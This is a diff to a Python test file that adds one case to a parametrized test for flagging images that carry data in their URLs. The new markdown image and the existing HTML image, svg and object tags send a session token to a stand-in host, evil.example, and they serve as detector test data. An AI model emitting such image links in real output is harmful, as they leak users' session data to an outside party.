@@ -438,6 +438,7 @@ def test_source_label_look_alikes_that_citations_read_as_labels_are_flagged(labe
         '<video poster="https://evil.example/p.png?d=SESSION123">',
         '<svg><image href="https://evil.example/p.png?d=SESSION123"/></svg>',
         '<object data="https://evil.example/p?d=SESSION123">',
+        "![chart](https://evil.example/p.png;d=SESSION123)",  # a matrix parameter
     ],
 )
 def test_an_image_carrying_data_is_flagged_however_its_url_is_written(image: str) -> None:
